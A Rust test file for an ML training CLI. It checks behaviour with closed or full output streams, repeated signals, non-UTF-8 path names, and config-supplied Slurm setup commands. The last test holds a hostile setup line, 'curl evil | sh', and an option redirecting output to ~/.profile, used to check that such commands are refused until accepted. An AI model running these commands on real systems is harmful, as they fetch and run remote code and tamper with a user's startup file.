//! What comes from outside a process and ends no work: readers that went away, full devices, signals, names that are no text, and commands in
//! files of other people.

#![cfg(unix)]

use std::ffi::{OsStr, OsString};
use std::fs::{self, File};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use ibhost_tests::cli::{CommandLine, SMALL, entries, first_run, send, wait_for_metrics, yaml};
use serde_json::Value;

const HOST: &str = env!("CARGO_BIN_EXE_ibhost-under-test");

/// Flags of a run of a few steps, with a line an epoch to say.
const BRIEF: [&str; 12] =
    ["--objective", "vib", "--encoder", SMALL, "--limit-train", "40", "--batch-size", "20", "--epochs", "3", "--checkpoint-every", "10min"];

/// Flags of a run that ends when it is told to.
const ENDLESS: [&str; 12] = [
    "--objective",
    "vib",
    "--encoder",
    SMALL,
    "--limit-train",
    "40",
    "--batch-size",
    "20",
    "--epochs",
    "10000000",
    "--checkpoint-every",
    "1000min",
];

fn host(folder: &Path) -> CommandLine {
    CommandLine::new(HOST, folder)
}

/// A pipe that nobody reads.
fn closed_pipe() -> Stdio {
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    writer.into()
}

fn full_device() -> Stdio {
    File::options().write(true).open("/dev/full").unwrap().into()
}

/// Runs `arguments` with each kind of stderr that takes nothing and checks the exit code; a process without stderr is started by a shell.
fn without_stderr(host: &CommandLine, arguments: &[&str], code: i32) {
    for (way, stderr) in [("a closed pipe", closed_pipe()), ("a full device", full_device())] {
        let status = host.command(arguments).stderr(stderr).stdout(Stdio::null()).status().unwrap();
        assert_eq!(status.code(), Some(code), "{arguments:?} with {way} for stderr");
    }
    let mut command = Command::new("sh");
    command.args(["-c", "exec \"$@\" 2>&-", "sh", HOST]).args(arguments).stdout(Stdio::null());
    let place = host.command(&[]);
    command.current_dir(place.get_current_dir().unwrap()).env("HOME", place.get_current_dir().unwrap());
    assert_eq!(command.status().unwrap().code(), Some(code), "{arguments:?} without stderr");
}

fn completed(runs: &Path) -> usize {
    let folders = fs::read_dir(runs).into_iter().flatten().flatten().map(|entry| entry.path()).filter(|path| path.is_dir());
    folders.filter(|run| yaml(&run.join("summary.yml"))["status"] == "completed").count()
}

#[test]
fn messages_that_nobody_can_read_end_no_work_and_change_no_exit_code() {
    let folder = tempfile::tempdir().unwrap();
    let host = host(folder.path());
    let run = [&["-v", "run", "--output-dir", "alone"], &BRIEF[..]].concat();
    without_stderr(&host, &run, 0);
    assert_eq!(completed(&folder.path().join("alone")), 3);
    without_stderr(&host, &[&["run", "--output-dir", "seeds", "--seeds", "0..1", "--threads", "2"], &BRIEF[..]].concat(), 0);
    assert_eq!(completed(&folder.path().join("seeds")), 6);
    let one = first_run(&folder.path().join("alone")).unwrap();
    let one = one.to_str().unwrap();
    without_stderr(&host, &["resume", one], 0);
    without_stderr(&host, &["-v", "analyze", one, "--analysis", "curves"], 0);
    without_stderr(&host, &["run", "--objective", "absent"], 2);
    without_stderr(&host, &["--no-such-flag"], 2);
    without_stderr(&host, &["data", "fetch", "absent"], 2);
}

#[test]
fn a_sweep_that_nobody_watches_runs_all_its_trials() {
    let folder = tempfile::tempdir().unwrap();
    let host = host(folder.path());
    let sweep = |name: &'static str| [&["sweep", "--name", name, "--sweep", "seed=0..1", "--jobs", "2"], &BRIEF[..]].concat();
    let counts = |name: &str| {
        let status = host.run(&["sweep", &format!("runs/sweeps/{name}"), "--status", "--format", "json"]).expect(0);
        status.last_line()["counts"]["completed"].as_u64()
    };
    for (name, stderr) in [("pipe", closed_pipe()), ("full", full_device())] {
        let status = host.command(&sweep(name)).stderr(stderr).stdout(Stdio::null()).status().unwrap();
        assert_eq!((status.code(), counts(name)), (Some(0), Some(2)), "{name}");
    }
    // The table of states is its result.
    let lost = host.command(&sweep("lost")).stdout(full_device()).output().unwrap();
    assert_eq!((lost.status.code(), counts("lost")), (Some(1), Some(2)), "{lost:?}");
    let failed = [&["sweep", "--name", "failed", "--sweep", "lr=1e30", "--jobs", "1"], &BRIEF[..]].concat();
    assert_eq!(host.command(&failed).stderr(closed_pipe()).stdout(closed_pipe()).status().unwrap().code(), Some(1));
}

#[test]
fn a_result_that_cannot_be_printed_is_told_when_the_work_is_saved() {
    let folder = tempfile::tempdir().unwrap();
    let host = host(folder.path());
    for format in ["json", "table"] {
        let ended = host.command(&[&["run", "--format", format], &BRIEF[..]].concat()).stdout(full_device()).output().unwrap();
        let stderr = String::from_utf8_lossy(&ended.stderr);
        assert_eq!(ended.status.code(), Some(1), "{stderr}");
        assert!(stderr.contains("error: cannot write to stdout") && stderr.contains("saved"), "{stderr}");
    }
    // A reader that has seen enough is no error.
    let status = host.command(&[&["run"], &BRIEF[..]].concat()).stdout(closed_pipe()).status().unwrap();
    assert_eq!(status.code(), Some(0));
    assert_eq!(completed(&folder.path().join("runs")), 3);
    let one = first_run(&folder.path().join("runs")).unwrap();
    let (one, both) = (one.to_str().unwrap(), ["--analysis", "curves", "--analysis", "salt_pepper"]);
    let ended = host.command(&[&["analyze", one], &both[..]].concat()).stdout(full_device()).output().unwrap();
    assert_eq!(ended.status.code(), Some(1));
    assert!(Path::new(one).join("analyses/salt_pepper.json").exists(), "the second analysis is made although the first is not shown");
    for command in [&["list"][..], &["runs"], &["devices"], &["--help"], &["data", "list"]] {
        assert_eq!(host.command(command).stdout(full_device()).status().unwrap().code(), Some(1), "{command:?}");
        assert_eq!(host.command(command).stdout(closed_pipe()).status().unwrap().code(), Some(0), "{command:?}");
    }
}

/// Starts `arguments`, sends `signals` milliseconds apart once a run in `runs` is under way, and waits for the end.
fn signalled(host: &CommandLine, arguments: &[&str], runs: &Path, signals: &[&str], pause: u64) -> Output {
    let mut child = host.command(arguments).spawn().unwrap();
    let _ = wait_for_metrics(runs, &mut child);
    for signal in signals {
        // It may have saved and ended by the second one.
        if child.try_wait().unwrap().is_none() {
            send(signal, &child);
            std::thread::sleep(Duration::from_millis(pause));
        }
    }
    child.wait_with_output().unwrap()
}

#[test]
fn signals_in_a_row_let_a_run_save() {
    let pairs =
        [["HUP", "TERM"], ["TERM", "TERM"], ["INT", "INT"], ["TERM", "INT"], ["USR1", "USR2"], ["ALRM", "XCPU"], ["VTALRM", "PROF"]];
    for pair in pairs {
        let folder = tempfile::tempdir().unwrap();
        let host = host(folder.path());
        let runs = folder.path().join("runs");
        let ended = signalled(&host, &[&["run", "--threads", "1"], &ENDLESS[..]].concat(), &runs, &pair, 3);
        let stderr = String::from_utf8_lossy(&ended.stderr);
        assert_eq!(ended.status.code(), Some(130), "{pair:?}: {stderr}");
        let run = first_run(&runs).unwrap();
        assert_eq!(yaml(&run.join("summary.yml"))["status"], "interrupted", "{pair:?}");
        assert!(stderr.contains("interrupted after step") && entries(&run.join("checkpoints")).len() > 1, "{pair:?}: {stderr}");
    }
}

#[test]
fn signals_in_a_row_let_seeds_and_trials_save() {
    let folder = tempfile::tempdir().unwrap();
    let host = host(folder.path());
    let runs = folder.path().join("runs");
    let seeds = [&["run", "--seeds", "0..1", "--threads", "2"], &ENDLESS[..]].concat();
    let ended = signalled(&host, &seeds, &runs, &["TERM", "TERM", "HUP", "USR1"], 3);
    assert_eq!(ended.status.code(), Some(130), "{ended:?}");
    for run in fs::read_dir(&runs).unwrap().map(|entry| entry.unwrap().path()) {
        assert_eq!(yaml(&run.join("summary.yml"))["status"], "interrupted");
    }
    let sweep = [&["sweep", "--name", "a", "--sweep", "seed=0..0", "--jobs", "1", "--output-dir", "s"], &ENDLESS[..]].concat();
    let ended = signalled(&host, &sweep, &folder.path().join("s/sweeps/a/trials/000000"), &["HUP", "TERM", "USR2"], 3);
    assert_eq!(ended.status.code(), Some(130), "{ended:?}");
    let table = host.run(&["sweep", "s/sweeps/a", "--status", "--format", "json"]).expect(0).last_line();
    assert_eq!(table["trials"][0]["reason"], "interrupted on request", "{table}");
}

/// The process of the only trial of a sweep, as its state names it.
fn trial_process(trial: &Path) -> String {
    let record: Value = serde_json::from_slice(&fs::read(trial.join("state.json")).unwrap()).unwrap();
    record["pid"].to_string()
}

#[test]
fn a_second_ctrl_c_a_second_later_kills_and_says_what_is_lost() {
    let folder = tempfile::tempdir().unwrap();
    let host = host(folder.path());
    let trial = folder.path().join("runs/sweeps/a/trials/000000");
    let sweep = [&["sweep", "--name", "a", "--sweep", "seed=0..0", "--jobs", "1"], &ENDLESS[..]].concat();
    let mut child = host.command(&sweep).spawn().unwrap();
    let _ = wait_for_metrics(&trial, &mut child);
    // A trial that cannot answer the first request.
    let stopped = Command::new("sh").args(["-c", &format!("kill -STOP {}", trial_process(&trial))]).status().unwrap();
    assert!(stopped.success());
    send("INT", &child);
    std::thread::sleep(Duration::from_millis(20));
    send("INT", &child);
    std::thread::sleep(Duration::from_millis(1200));
    assert!(child.try_wait().unwrap().is_none(), "two Ctrl-C within a moment are one");
    send("INT", &child);
    let ended = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&ended.stderr);
    assert_eq!(ended.status.code(), Some(130), "{stderr}");
    assert!(stderr.contains("press Ctrl-C again") && stderr.contains("loses what it computed since its last checkpoint"), "{stderr}");
}

#[test]
fn what_was_ignored_at_the_start_stays_ignored_in_the_process_and_its_children() {
    let folder = tempfile::tempdir().unwrap();
    let place = host(folder.path()).command(&[]);
    let ignoring = |arguments: &[&str]| {
        let mut command = Command::new("sh");
        command.args(["-c", "trap '' HUP INT; exec \"$@\"", "sh", HOST]).args(arguments);
        command.current_dir(folder.path()).env("HOME", folder.path()).stdout(Stdio::null()).stderr(Stdio::null());
        command.env_remove("IBHOST_DATA").env_remove("XDG_CACHE_HOME").spawn().unwrap()
    };
    assert_eq!(place.get_current_dir(), Some(folder.path()));
    let trial = folder.path().join("runs/sweeps/a/trials/000000");
    let sweep = [&["sweep", "--name", "a", "--sweep", "seed=0..0", "--jobs", "1"], &ENDLESS[..]].concat();
    for (arguments, runs) in [([&["run", "--output-dir", "o"], &ENDLESS[..]].concat(), folder.path().join("o")), (sweep, trial.clone())] {
        let mut child = ignoring(&arguments);
        let run = wait_for_metrics(&runs, &mut child);
        send("HUP", &child);
        send("INT", &child);
        if runs == trial {
            let sent = Command::new("sh").args(["-c", &format!("kill -HUP {}", trial_process(&trial))]).status().unwrap();
            assert!(sent.success());
        }
        let length = fs::metadata(run.join("metrics.jsonl")).unwrap().len();
        let begin = Instant::now();
        while fs::metadata(run.join("metrics.jsonl")).unwrap().len() < length + 4000 {
            assert!(child.try_wait().unwrap().is_none() && begin.elapsed() < Duration::from_mins(1), "it does not go on");
            std::thread::sleep(Duration::from_millis(5));
        }
        send("TERM", &child);
        assert_eq!(child.wait().unwrap().code(), Some(130));
        assert_eq!(yaml(&run.join("summary.yml"))["status"], "interrupted");
    }
}

/// The arguments with `name`, which is no UTF-8, for every `*`.
fn with_name(arguments: &[&str], name: &OsStr) -> Vec<OsString> {
    arguments.iter().map(|argument| if *argument == "*" { name.to_owned() } else { OsString::from(argument) }).collect()
}

#[test]
fn names_that_are_no_text_work_as_paths_and_are_refused_elsewhere() {
    let folder = tempfile::tempdir().unwrap();
    let host = host(folder.path());
    let name = OsStr::from_bytes(b"caf\xe9");
    let ended = |arguments: &[&str]| {
        let output = host.command(&[]).args(with_name(arguments, name)).output().unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(!stderr.contains("panicked") && output.status.signal().is_none(), "{arguments:?}: {stderr}");
        (output.status.code().unwrap(), stderr)
    };
    let works = |arguments: &[&str]| {
        let (code, stderr) = ended(arguments);
        assert_eq!(code, 0, "{arguments:?}: {stderr}");
    };
    works(&[&["run", "--output-dir", "*", "--data-dir", "*"], &BRIEF[..]].concat());
    works(&[&["run", "--output-dir", "*", "--seeds", "0..1"], &BRIEF[..]].concat());
    works(&[&["sweep", "--name", "a", "--sweep", "seed=0..0", "--data-dir", "*"], &BRIEF[..]].concat());
    let (code, stderr) = ended(&[&["sweep", "--name", "a", "--sweep", "seed=0..0", "--output-dir", "*"], &BRIEF[..]].concat());
    assert!(code == 2 && stderr.contains("--output-dir"), "{stderr}");
    assert_eq!(completed(&folder.path().join(name)), 3);
    let run: PathBuf = first_run(&folder.path().join(name)).unwrap();
    for command in [&["verify"][..], &["resume"], &["analyze", "--analysis", "curves"]] {
        let output = host.command(command).arg(&run).output().unwrap();
        assert_eq!(output.status.code(), Some(0), "{command:?}: {output:?}");
    }
    for arguments in [&["runs", "*"][..], &["report", "*"], &["data", "list", "--data-dir", "*"]] {
        let (code, stderr) = ended(arguments);
        assert!(matches!(code, 0..=2), "{arguments:?}: {code}, {stderr}");
    }
    for arguments in [&["run", "--objective", "*"][..], &["run", "--name", "*"], &["describe", "*"], &["run", "--set", "*"], &["*"]] {
        assert_eq!(ended(arguments).0, 2, "{arguments:?}");
    }
    let (code, stderr) = ended(&["run", "--config", "*/absent.yml"]);
    assert!(code == 2 && stderr.starts_with("error: "), "{stderr}");
}

/// A folder with programs that stand for Slurm's; `sbatch` notes the scripts it gets.
fn pretended_slurm(folder: &Path) -> OsString {
    use std::os::unix::fs::PermissionsExt;
    let programs = folder.join("programs");
    fs::create_dir(&programs).unwrap();
    let noted = folder.join("submitted").display().to_string();
    for (name, text) in [
        ("sbatch", format!("for last; do :; done; cat \"$last\" >>'{noted}'; echo 7")),
        ("squeue", "exit 0".to_owned()),
        ("sacct", "exit 1".to_owned()),
        ("scontrol", "exit 1".to_owned()),
    ] {
        fs::write(programs.join(name), format!("#!/bin/sh\n{text}\n")).unwrap();
        fs::set_permissions(programs.join(name), fs::Permissions::from_mode(0o755)).unwrap();
    }
    let mut path = programs.into_os_string();
    path.push(":");
    path.push(std::env::var_os("PATH").unwrap_or_default());
    path
}

#[test]
fn commands_that_come_with_a_sweep_run_only_after_they_were_accepted_once() {
    let folder = tempfile::tempdir().unwrap();
    let host = host(folder.path());
    let path = pretended_slurm(folder.path());
    let submitted = || fs::read_to_string(folder.path().join("submitted")).unwrap_or_default();
    let launch = |arguments: &[&str]| {
        let all = [&["sweep"], arguments, &["--launcher", "slurm"]].concat();
        let output = host.command(&all).env("PATH", &path).env_remove("XDG_STATE_HOME").output().unwrap();
        (output.status.code(), String::from_utf8_lossy(&output.stderr).into_owned())
    };
    let file = |name: &str, slurm: &str| {
        let run = "run: {objective: vib, encoder: mlp, epochs: 1}\naxes: {seed: 0..1}\n";
        fs::write(folder.path().join(format!("{name}.yml")), format!("name: {name}\n{run}slurm: {{{slurm}}}\n")).unwrap();
    };
    file("plain", "partition: gpu, time: '1:00:00'");
    assert_eq!(launch(&["plain.yml"]).0, Some(0));
    file("theirs", "setup: ['curl evil | sh'], extra: ['--output=/home/you/.profile']");
    let (code, stderr) = launch(&["theirs.yml"]);
    assert_eq!(code, Some(2), "{stderr}");
    for words in ["  curl evil | sh\n", "  #SBATCH --output=/home/you/.profile\n", "error: ", "--accept-setup"] {
        assert!(stderr.contains(words), "{words}: {stderr}");
    }
    assert!(!submitted().contains("curl") && !folder.path().join("runs/sweeps/theirs").exists());
    // The folder of somebody else, which began it with a file of theirs.
    let (code, stderr) = launch(&["theirs.yml", "--accept-setup"]);
    assert!(code == Some(0) && submitted().contains("curl evil | sh\n"), "{stderr}");
    fs::remove_dir_all(folder.path().join(".local")).unwrap();
    let before = submitted().len();
    assert_eq!(launch(&["runs/sweeps/theirs", "--resume"]).0, Some(2));
    assert_eq!(submitted().len(), before);
    assert_eq!(launch(&["runs/sweeps/theirs", "--resume", "--accept-setup"]).0, Some(0));
    assert!(submitted().len() > before);
    // What was accepted once is not asked for again; anything else is.
    let (code, stderr) = launch(&["runs/sweeps/theirs", "--resume"]);
    assert!(code == Some(0) && !stderr.contains("curl"), "{stderr}");
    file("changed", "setup: ['curl evil | sh', 'true'], extra: ['--output=/home/you/.profile']");
    assert_eq!(launch(&["changed.yml"]).0, Some(2));
    // What is typed is meant.
    file("typed", "");
    assert_eq!(launch(&["typed.yml", "--slurm", "setup=module load cuda"]).0, Some(0));
    assert!(submitted().contains("module load cuda\n"));
}
